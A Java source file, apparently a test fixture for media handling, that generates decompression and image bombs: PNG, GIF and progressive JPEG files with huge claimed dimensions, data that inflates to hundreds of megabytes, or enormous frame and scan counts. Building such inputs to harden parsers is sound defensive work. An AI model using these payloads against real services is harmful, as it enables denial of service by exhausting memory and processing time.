package io.socialdata.writes.media;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/** Small files that are built to exhaust a program that reads them. */
final class ImageBombs {

    private static final int MEBIBYTE = 1024 * 1024;

    private ImageBombs() {}

    /** Returns the files by name; each is as large as a file of its format may be, or far smaller. */
    static Map<String, byte[]> all() {
        Map<String, byte[]> bombs = new LinkedHashMap<>();
        bombs.put("a PNG with one row of 264 MB", png(33_000_000, 1, false, 264_000_001L));
        bombs.put("a PNG with one column", png(1, 33_000_000, false, 1_000_000));
        bombs.put("a PNG that claims 2 to the 62 pixels", png(Integer.MAX_VALUE, Integer.MAX_VALUE, false, 100));
        bombs.put("a PNG of 320 MB of pixels", png(32_000, 1_250, false, 1_250L * (32_000 * 8 + 1)));
        bombs.put("the same, interlaced", png(32_000, 1_250, true, 1_250L * (32_000 * 8 + 9)));
        bombs.put("a PNG with far more data than pixels", png(100, 100, false, 500L * MEBIBYTE));
        bombs.put("a GIF of a million frames", gif(1, 1, 1_048_000, 1));
        bombs.put("a GIF of frames that claim 4,000,000,000 pixels", gif(1, 1, 1_000, 65_535));
        bombs.put("a GIF with a screen of 4,000,000,000 pixels", gif(65_535, 65_535, 1, 1));
        bombs.put("a progressive JPEG of 40,000,000 pixels and 100 scans", jpeg(6_320, 100));
        bombs.put("a progressive JPEG of endless scans", jpeg(6_320, 10_000));
        bombs.put("a JPEG that claims 4,000,000,000 pixels", jpeg(65_500, 2));
        return bombs;
    }

    /** Sixteen bits a sample, four samples a pixel, and this many bytes of zeros in place of the pixels. */
    static byte[] png(int width, int height, boolean interlaced, long inflated) {
        return written(file -> {
            file.writeLong(0x89504e470d0a1a0aL);
            chunk(file, "IHDR", written(head -> {
                head.writeInt(width);
                head.writeInt(height);
                head.write(new byte[] {16, 6, 0, 0, (byte) (interlaced ? 1 : 0)});
            }));
            chunk(file, "IDAT", written(data -> zeros(data, inflated)));
            chunk(file, "IEND", new byte[0]);
        });
    }

    /** Deflates one mebibyte and repeats it: after a full flush, no block refers to those before it. */
    private static void zeros(DataOutputStream data, long count) throws IOException {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        byte[] deflated = new byte[4096];
        deflater.setInput(new byte[MEBIBYTE]);
        int length = deflater.deflate(deflated, 0, deflated.length, Deflater.FULL_FLUSH);
        data.writeShort(0x78da);
        for (long i = 0; i < count / MEBIBYTE; i++) {
            data.write(deflated, 0, length);
        }
        deflater.setInput(new byte[(int) (count % MEBIBYTE)]);
        deflater.finish();
        data.write(deflated, 0, deflater.deflate(deflated));
        deflater.end();
        data.writeInt((int) (count % 65_521) << 16 | 1); // Adler-32
    }

    /** Frames with the data of one pixel each, whatever size they claim. */
    static byte[] gif(int width, int height, int frames, int side) {
        return written(file -> {
            file.writeBytes("GIF89a");
            little(file, width);
            little(file, height);
            file.write(new byte[3]);
            for (int i = 0; i < frames; i++) {
                file.write(0x2c);
                file.writeInt(0);
                little(file, side);
                little(file, side);
                file.write(new byte[] {0, 2, 2, 0x44, 0x01, 0});
            }
            file.write(';');
        });
    }

    /**
     * One grey component. A code of one bit is a block without a change, and one of fifteen ends 16,384 blocks at once.
     */
    static byte[] jpeg(int side, int scans) {
        int blocks = Math.ceilDiv(side, 8) * Math.ceilDiv(side, 8);
        return written(file -> {
            file.writeInt(0xffd8_ffc2);
            file.writeShort(11);
            file.write(8);
            file.writeShort(side);
            file.writeShort(side);
            file.write(new byte[] {1, 1, 0x11, 0});
            table(file, 0x00, 0);
            table(file, 0x10, 0xe0);
            scan(file, 0, 0, 0, blocks / 8 + 1);
            for (int i = 1; i < scans; i++) {
                scan(file, 1, 63, i == 1 ? 0x01 : 0x10, (blocks / 16_384 + 2) * 15 / 8 + 1);
            }
            file.writeShort(0xffd9);
        });
    }

    private static void table(DataOutputStream file, int place, int symbol) throws IOException {
        file.writeShort(0xffc4);
        file.writeShort(20);
        file.write(place);
        file.write(1);
        file.write(new byte[15]);
        file.write(symbol);
    }

    private static void scan(DataOutputStream file, int from, int to, int shifts, int bytes) throws IOException {
        file.writeShort(0xffda);
        file.writeShort(8);
        file.write(new byte[] {1, 1, 0, (byte) from, (byte) to, (byte) shifts});
        file.write(new byte[bytes]);
    }

    static void chunk(DataOutputStream file, String type, byte[] data) throws IOException {
        CRC32 sum = new CRC32();
        sum.update(type.getBytes(StandardCharsets.US_ASCII));
        sum.update(data);
        file.writeInt(data.length);
        file.writeBytes(type);
        file.write(data);
        file.writeInt((int) sum.getValue());
    }

    private static void little(DataOutputStream file, int value) throws IOException {
        file.write(value);
        file.write(value >> 8);
    }

    /** Writes a part of a file. */
    interface Part {
        void to(DataOutputStream file) throws IOException;
    }

    static byte[] written(Part part) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try {
            part.to(new DataOutputStream(bytes));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }
}
